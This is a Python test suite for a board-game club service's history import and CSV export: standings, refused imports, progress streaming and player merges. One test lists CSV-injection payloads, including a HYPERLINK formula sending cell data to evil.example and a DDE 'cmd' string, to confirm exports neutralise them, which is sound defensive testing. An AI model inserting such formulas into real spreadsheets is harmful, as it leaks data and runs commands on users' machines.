"""Importing a club's play history: a BG Stats backup, a BoardGameGeek plays
export and a CSV (tests/data/history/, written from their published fields),
each giving the standings its plays give; all or nothing; idempotent."""

from __future__ import annotations

import io
import json
from pathlib import Path
from uuid import UUID

import pytest

from tests.factories import Api, ClubFactory, LeagueFactory, PlayerFactory
from tests.workers.helpers import drain

DATA = Path(__file__).resolve().parent.parent / "data" / "history"

# (games, wins, points) by player, points by the default table 10, 6, 3, 1.
# BG Stats and the CSV give the second play's places by rank (3, 1, 2, 4);
# BoardGameGeek has no rank: its winner is first and everyone else shares second.
EXPECTED = {
    "bgstats.json": {"Ann": (2, 1, 13.0), "Ben": (3, 1, 19.0), "Cleo": (3, 1, 22.0), "Dev": (2, 1, 11.0)},
    "plays.csv": {"Ann": (2, 1, 13.0), "Ben": (3, 1, 19.0), "Cleo": (3, 1, 22.0), "Dev": (2, 1, 11.0)},
    "bgg_plays.xml": {"Ann": (2, 1, 16.0), "Ben": (3, 1, 19.0), "Cleo": (3, 1, 22.0), "Dev": (2, 1, 16.0)},
}


def upload(api, club, name: str, content: bytes | None = None, **form):
    data = {"file": (io.BytesIO(content if content is not None else (DATA / name).read_bytes()), name)}
    data.update(
        {
            k: (json.dumps(v) if isinstance(v, dict) else str(v).lower() if isinstance(v, bool) else v)
            for k, v in form.items()
        }
    )
    return api.client.post(
        f"/clubs/{club['id']}/history", data=data, headers=api.headers(), content_type="multipart/form-data"
    )


def standings_by_name(pool, league_id) -> dict[str, tuple]:
    with pool.connection() as conn:
        rows = conn.execute(
            "SELECT p.name, s.games, s.wins, s.points FROM standings s JOIN players p ON p.id = s.player_id"
            " WHERE s.league_id = %s",
            (league_id,),
        ).fetchall()
    return {r["name"]: (r["games"], r["wins"], r["points"]) for r in rows}


def counts(pool) -> tuple[int, int, int]:
    with pool.connection() as conn:
        return tuple(
            conn.execute(f"SELECT count(*) AS n FROM {table}").fetchone()["n"]
            for table in ("games", "events", "players")
        )


@pytest.fixture
def club(client):
    return ClubFactory(client=client)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_history_file_gives_the_standings_of_its_plays(client, pool, club, database_url, name):
    api = Api(client, club["admin_token"])
    PlayerFactory(client=client, club=club, name="Ann")  # an existing player is matched by name
    league = LeagueFactory(client=client, club=club, engine="house-of-cronies")
    r = upload(
        api, club, name, league=league["id"], skip_unknown_games=True, mapping={"HoC": "house-of-cronies"}
    )
    assert r.status_code == 201, r.get_json()
    report = r.get_json()
    assert report["imported"] == 3 and report["already_imported"] == 0
    assert [s["game"] for s in report["skipped"]] == ["Catan"]
    assert sorted(report["players_added"]) == ["Ben", "Cleo", "Dev"]
    drain(database_url)
    assert standings_by_name(pool, league["id"]) == EXPECTED[name]
    results = api.get(f"/clubs/{club['id']}/results").get_json()
    assert len(results) == 3 and all(r["result_only"] for r in results)
    assert results[-1]["played_on"] == "2024-01-05"

    again = upload(
        api, club, name, league=league["id"], skip_unknown_games=True, mapping={"HoC": "house-of-cronies"}
    )
    assert again.status_code == 201
    assert (again.get_json()["imported"], again.get_json()["already_imported"]) == (0, 3)
    drain(database_url)
    assert standings_by_name(pool, league["id"]) == EXPECTED[name]


def test_a_game_the_service_does_not_record_refuses_the_import_unless_skipped(client, pool, club):
    api = Api(client, club["admin_token"])
    before = counts(pool)
    r = upload(api, club, "bgstats.json")
    assert r.status_code == 422 and r.get_json()["code"] == "history-refused"
    assert r.get_json()["refused"] == [
        {"where": "play 3", "reason": "The service does not record 'Catan'.", "game": "Catan"}
    ]
    assert counts(pool) == before


def test_a_refused_import_stores_nothing_and_names_every_refused_line(client, pool, club):
    api = Api(client, club["admin_token"])
    before = counts(pool)
    r = upload(api, club, "refused.csv")
    assert r.status_code == 422, r.get_json()
    refused = {line["where"]: line for line in r.get_json()["refused"]}
    assert set(refused) == {"line 11", "lines 2-4", "lines 5-7"}
    assert "not a day" in refused["line 11"]["reason"]
    assert refused["lines 2-4"]["rule"] == "result-places-contradict-scores"
    assert refused["lines 5-7"]["rule"] == "player-named-twice"
    assert counts(pool) == before


def test_a_mapping_to_a_game_not_recorded_here_is_refused(client, club):
    r = upload(Api(client, club["admin_token"]), club, "plays.csv", mapping={"HoC": "monopoly"})
    assert r.status_code == 422 and r.get_json()["code"] == "history-mapping"


def test_a_large_import_streams_its_progress(client, club):
    api = Api(client, club["admin_token"])
    rows = ["date,game,player,score,place"]
    for i in range(250):
        rows += [
            f"2024-01-{1 + i % 28:02d},Pig,Ann,{30 + i % 5},",
            f"2024-01-{1 + i % 28:02d},Pig,Ben,{i % 20},",
            "",
        ]
        rows[-1] = f"2024-01-{1 + i % 28:02d},Pig,Cleo,{i % 7},"
        rows.append("")
    body = "\n".join(r for r in rows if r) + "\n"
    # Three players per play and a play column, so that equal days stay apart.
    lines = body.splitlines()
    with_play = [lines[0] + ",play"] + [f"{line},{(n - 1) // 3}" for n, line in enumerate(lines[1:], start=1)]
    data = ("\n".join(with_play) + "\n").encode()
    r = api.client.post(
        f"/clubs/{club['id']}/history",
        data={"file": (io.BytesIO(data), "pig.csv")},
        headers=api.headers(Accept="application/x-ndjson"),
        content_type="multipart/form-data",
    )
    assert r.status_code == 200
    answer = [json.loads(line) for line in r.get_data(as_text=True).splitlines()]
    assert [a["judged"] for a in answer[:-1]] == [100, 200, 250]
    assert answer[-1]["report"]["imported"] == 250
    # The report says where its last play is in the log (no header can: the answer began before).
    feed = api.get(f"/clubs/{club['id']}/events?limit=1000").get_json()["events"]
    assert answer[-1]["report"]["log_position"] == max(e["position"] for e in feed)


def test_the_command_line_imports_a_file_with_a_progress_bar(client, pool, club, database_url, monkeypatch):
    from service import import_history

    monkeypatch.setenv("DATABASE_URL", database_url)
    out = io.StringIO()
    argv = [
        str(DATA / "plays.csv"),
        "--club",
        club["id"],
        "--token",
        club["admin_token"],
        "--map",
        "HoC=house-of-cronies",
    ]
    assert import_history.main([*argv, "--skip-unknown-games"], stream=out) == 0
    text = out.getvalue()
    assert "plays judged" in text and "3/3" in text
    assert "Imported 3 plays (0 imported before); 4 new players." in text
    assert "skipped lines 9-10: The service does not record 'Catan'." in text

    out = io.StringIO()
    assert import_history.main(argv, stream=out) == 1
    assert (
        "Nothing was imported" in out.getvalue()
        and "lines 9-10: The service does not record 'Catan'." in out.getvalue()
    )


def test_a_leagues_plays_taken_out_as_csv_and_imported_elsewhere_give_the_same_standings(
    client, pool, database_url
):
    from tests.workers.helpers import league_with_games

    club = ClubFactory(client=client)
    api = Api(client, club["admin_token"])
    league, members, _ = league_with_games(client, club, 4, players=3)
    body = {
        "engine": "pig",
        "league": league["id"],
        "options": {"target": 12},
        "players": [{"player": members[0]["id"], "place": 2}, {"player": members[2]["id"], "place": 1}],
    }
    assert api.post(f"/clubs/{club['id']}/results", body).status_code == 201
    exported = api.get(f"/leagues/{league['id']}/plays.csv")
    assert exported.status_code == 200 and exported.content_type.startswith("text/csv")
    text = exported.get_data(as_text=True)
    assert text.splitlines()[0] == "date,game,player,score,place,play,options"
    assert api.get(f"/clubs/{club['id']}/plays.csv?league={league['id']}").get_data(as_text=True) == text

    other = ClubFactory(client=client)
    other_api = Api(client, other["admin_token"])
    copy = LeagueFactory(client=client, club=other, engine="pig")
    r = upload(other_api, other, "league.csv", text.encode(), league=copy["id"])
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["imported"] == 5
    drain(database_url)
    fields = "p.name, s.games, s.wins, s.placements, s.points, s.average_score, s.mu, s.sigma, s.rank"
    with pool.connection() as conn:
        original, copied = (
            sorted(
                tuple(r.values())
                for r in conn.execute(
                    f"SELECT {fields} FROM standings s JOIN players p ON p.id = s.player_id WHERE s.league_id = %s",
                    (lid,),
                )
            )
            for lid in (league["id"], copy["id"])
        )
    assert original == copied and len(original) == 3

    standings = api.get(f"/leagues/{league['id']}/standings.csv").get_data(as_text=True).splitlines()
    assert standings[0] == "rank,player,games,wins,points,average_score,rating"
    assert {line.split(",")[1] for line in standings[1:]} == {m["name"] for m in members}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'Tis Ann",
    "''=quoted",
]


def test_exported_cells_start_no_formula_and_import_back_to_the_same_standings(client, pool, database_url):
    """A text cell that a spreadsheet would read as a formula leads with a
    quote (OWASP's CSV injection advice); numbers, negative ones included,
    stay numbers; the import takes the quote off again."""
    import csv

    club = ClubFactory(client=client)
    api = Api(client, club["admin_token"])
    league = LeagueFactory(client=client, club=club, engine="house-of-cronies")
    players = [PlayerFactory(client=client, club=club, name=name)["id"] for name in FORMULAS]
    for first in range(len(players)):
        seated = [players[(first + k) % len(players)] for k in range(3)]
        scores = [-7 - first, 0, 5 + first]
        body = {
            "engine": "house-of-cronies",
            "league": league["id"],
            "players": [{"player": p, "score": s} for p, s in zip(seated, scores, strict=True)],
        }
        assert api.post(f"/clubs/{club['id']}/results", body).status_code == 201
    drain(database_url)

    exports = {
        path: list(csv.reader(io.StringIO(api.get(path).get_data(as_text=True))))
        for path in (
            f"/clubs/{club['id']}/plays.csv",
            f"/leagues/{league['id']}/plays.csv",
            f"/leagues/{league['id']}/standings.csv",
        )
    }
    for rows in exports.values():
        header, *body = rows
        text = [header.index(c) for c in ("game", "player") if c in header]
        for row in body:
            for i, cell in enumerate(row):
                if i in text:
                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
                elif cell and header[i] not in ("date", "play", "options"):
                    float(cell)  # a number stays a number
    plays = exports[f"/clubs/{club['id']}/plays.csv"]
    assert any(row[3].startswith("-") for row in plays[1:])  # negative scores as they are
    names = {row[1] for row in exports[f"/leagues/{league['id']}/standings.csv"][1:]}
    assert names == {"'" + n for n in FORMULAS}

    other = ClubFactory(client=client)
    copy = LeagueFactory(client=client, club=other, engine="house-of-cronies")
    text = api.get(f"/leagues/{league['id']}/plays.csv").get_data()
    r = upload(Api(client, other["admin_token"]), other, "league.csv", text, league=copy["id"])
    assert r.status_code == 201, r.get_json()
    assert sorted(r.get_json()["players_added"]) == sorted(FORMULAS)
    drain(database_url)
    assert standings_by_name(pool, copy["id"]) == standings_by_name(pool, league["id"])


def test_a_name_of_a_merged_in_player_seats_the_player_kept(client, pool, club, database_url):
    api = Api(client, club["admin_token"])
    ann = PlayerFactory(client=client, club=club, name="Ann")
    anna = PlayerFactory(client=client, club=club, name="Anna")
    merged = api.post(f"/clubs/{club['id']}/players/{ann['id']}/merge", {"into": anna["id"]})
    assert merged.status_code == 201, merged.get_json()
    league = LeagueFactory(client=client, club=club, engine="house-of-cronies")
    r = upload(
        api,
        club,
        "plays.csv",
        league=league["id"],
        skip_unknown_games=True,
        mapping={"HoC": "house-of-cronies"},
    )
    assert r.status_code == 201, r.get_json()
    assert sorted(r.get_json()["players_added"]) == ["Ben", "Cleo", "Dev"]
    with pool.connection() as conn:
        seats = [
            s
            for row in conn.execute("SELECT seats FROM games WHERE club_id = %s", (club["id"],))
            for s in row["seats"]
        ]
    assert seats.count(anna["id"]) == 2 and ann["id"] not in seats
    drain(database_url)
    assert standings_by_name(pool, league["id"])["Anna"] == EXPECTED["plays.csv"]["Ann"]


def test_an_import_whose_player_is_merged_while_it_is_judged_stores_nothing(client, pool, club):
    from service.records import access
    from service.records.errors import Invalid
    from service.records.history import imports
    from service.records.log.context import Records

    api = Api(client, club["admin_token"])
    ann = PlayerFactory(client=client, club=club, name="Ann")
    anna = PlayerFactory(client=client, club=club, name="Anna")

    def merge_meanwhile(judged: int, of: int) -> None:
        merged = api.post(f"/clubs/{club['id']}/players/{ann['id']}/merge", {"into": anna["id"]})
        assert merged.status_code == 201, merged.get_json()

    with pool.connection() as conn:
        principal = access.principal_for(conn, access.hash_token(club["admin_token"]))
    before = counts(pool)
    with pytest.raises(Invalid) as refused:
        imports.import_history(
            Records(pool),
            UUID(club["id"]),
            principal,
            "csv",
            (DATA / "plays.csv").read_bytes(),
            mapping={"HoC": "house-of-cronies"},
            skip_unknown_games=True,
            progress=merge_meanwhile,
        )
    assert refused.value.code == "player-merged"
    assert counts(pool) == before
